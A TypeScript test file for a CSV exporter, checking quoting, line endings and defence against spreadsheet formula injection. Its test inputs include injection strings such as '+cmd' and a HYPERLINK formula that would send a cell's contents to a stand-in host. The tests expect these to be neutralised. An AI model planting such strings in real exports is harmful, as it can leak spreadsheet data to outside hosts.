import { toCsv } from '../../../src/editor/table/csv';
import type { Cell } from '../../../src/editor/table/response-table';

const field = (cell: Cell) =>
  toCsv({ columns: ['c'], rows: [[cell]] }).slice('\uFEFFc\r\n'.length, -2);

describe('toCsv', () => {
  it('begins with a byte order mark, and ends each line with CR and LF', () => {
    const csv = toCsv({
      columns: ['name', 'note'],
      rows: [
        ['Әділет', null],
        ['b', ''],
      ],
    });
    expect(csv).toBe('\uFEFFname,note\r\nӘділет,\r\nb,""\r\n');
    expect([...Buffer.from(csv).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  });

  it.each<[Cell, string]>([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['a;b', '"a;b"'],
    ['say "yes"', '"say ""yes"""'],
    ['two\nlines', '"two\nlines"'],
    ['two\r\nlines', '"two\r\nlines"'],
    [' padded ', '" padded "'],
    [true, 'true'],
    [0, '0'],
    [-1.5, '-1.5'],
    ['500000.0100000000000000001', '500000.0100000000000000001'],
    ['-0.5', '-0.5'],
    ['+7', '+7'],
    ['', '""'],
    [null, ''],
  ])('writes %j as %s', (cell, expected) => expect(field(cell)).toBe(expected));

  it.each([
    '=1+1',
    '=HYPERLINK("https://example.org/?"&A1)',
    '+cmd',
    '-1+1',
    '-2 tenge',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠x',
  ])('writes %j so that it is no formula', (cell) => {
    const written = field(cell);
    const text = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
    expect(text).toBe(`'${cell}`);
  });

  it('writes the names of columns in the same way', () => {
    expect(toCsv({ columns: ['=a', 'b,c'], rows: [] })).toBe('\uFEFF\'=a,"b,c"\r\n');
  });
});
